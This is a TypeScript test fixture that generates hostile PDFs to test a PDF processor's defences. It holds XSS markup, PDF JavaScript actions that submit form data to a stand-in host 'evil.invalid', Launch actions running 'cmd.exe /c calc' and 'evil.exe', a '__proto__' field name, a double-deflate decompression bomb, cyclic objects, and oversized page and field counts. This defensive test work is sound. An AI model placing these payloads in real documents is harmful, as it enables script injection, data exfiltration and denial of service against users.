/** PDF files as strangers may write them: programs and links in every place that takes one, and more of everything than a page has. */
import { deflateSync } from "node:zlib";
import { formWith, type RawObject, rawPdf } from "../../src/template/testing/raw-pdf.ts";

const MARKUP = "<img src=x onerror=alert\\(1\\)><script>window.broken=1</script>";
const SCRIPT =
  "/S /JavaScript /JS (window.broken = 2; app.alert\\('x'\\); this.submitForm\\('https://evil.invalid/'\\))";
const ACTIONS = `/A << ${SCRIPT} >> /AA << /K << ${SCRIPT} >> /F << ${SCRIPT} >> /C << ${SCRIPT} >> /E << /S /URI /URI (javascript:alert\\(2\\)) >> >>`;
const RECT = "/Rect [60 700 300 720]";
const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

/** A form that wants to run, load, send and start something at every occasion. */
function programs(): Uint8Array {
  const launch = "/S /Launch /F (evil.exe) /Win << /F (cmd.exe) /P (/c calc) >>";
  const widgets = [
    `/FT /Tx /T (${MARKUP}) /TU (${MARKUP}) ${RECT} ${ACTIONS}`,
    `/FT /Tx /T (__proto__) /V (${MARKUP}) /Rect [60 660 300 680] ${ACTIONS}`,
    `/FT /Btn /Ff 65536 /T (send) /Rect [60 620 300 640] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.invalid/) >> >>`,
    `/FT /Tx /T (start) /Rect [60 580 300 600] /A << ${launch} >>`,
  ];
  return formWith(widgets, {
    catalog: `/OpenAction << ${SCRIPT} >> /AA << /WC << ${SCRIPT} >> >> /Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> /EmbeddedFiles << /Names [(b) << /Type /Filespec /F (evil.exe) >>] >> >>`,
    page: `/AA << /O << ${SCRIPT} >> /C << ${launch} >> >>`,
    form: "/XFA [(template) << >>] /NeedAppearances true",
  });
}

function flat(page: string, objects: readonly RawObject[], mediaBox = "[0 0 612 792]"): Uint8Array {
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox ${mediaBox} ${page} >>`,
    ...objects,
  ]);
}

/** Content that is a few kilobytes packed, twice over, and a gigabyte otherwise. */
function bomb(): Uint8Array {
  const once = deflateSync(Buffer.alloc(200_000_000, 32), { level: 9 });
  const stream = deflateSync(once, { level: 9 });
  return flat("/Contents 4 0 R", [{ dict: "/Filter [/FlateDecode /FlateDecode]", stream }]);
}

/** Content that draws without end: packed, so that the file is small. */
function drawing(lines: string): Uint8Array {
  return flat("/Contents 4 0 R", [{ dict: "/Filter /FlateDecode", stream: deflateSync(Buffer.from(lines)) }]);
}

function manyPages(count: number): Uint8Array {
  const kids = Array.from({ length: count }, (_page, index) => `${index + 3} 0 R`);
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids.join(" ")}] /Count ${count} >>`,
    ...kids.map(() => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"),
  ]);
}

function manyFields(count: number): Uint8Array {
  return formWith(
    Array.from({ length: count }, (_field, index) => {
      const [x, y] = [(index % 50) * 12, Math.floor(index / 50) * 7];
      return `/FT /Tx /T (${"n".repeat(index % 40)}${index}) /Rect [${x} ${y} ${x + 11} ${y + 6}]`;
    }),
  );
}

/** A form object that shows itself, and a page tree that is a circle. */
function circles(): Uint8Array {
  const self = {
    dict: "/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X 5 0 R >> >>",
    stream: "/X Do /X Do",
  };
  return flat("/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>", [
    { dict: "", stream: "/X Do" },
    self,
  ]);
}

/** Each by what it is. */
export function hostilePdfs(): readonly (readonly [name: string, pdf: Uint8Array])[] {
  const text = `BT /F 10 Tf 60 700 Td (${MARKUP}) Tj ET 60 690 200 18 re S`;
  return [
    ["programs", programs()],
    [
      "names",
      flat("/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>", [{ dict: "", stream: text }, FONT]),
    ],
    ["a page of a thousand kilometres", flat("", [], "[0 0 1e9 1e9]")],
    ["a page without a size", flat("", [], "[0 0 0 0]")],
    ["a page of numbers that are none", flat("", [], "[0 0 1e400 -1e400]")],
    ["a bomb", bomb()],
    ["a million lines", drawing("0 0 m 600 700 l S\n".repeat(1_000_000))],
    ["a million boxes", drawing("60 60 200 18 re S\n".repeat(500_000))],
    ["circles", circles()],
    ["a thousand pages", manyPages(1_000)],
    ["five thousand pages", manyPages(5_000)],
    ["five thousand fields", manyFields(5_000)],
    ["twenty thousand fields", manyFields(20_000)],
  ];
}
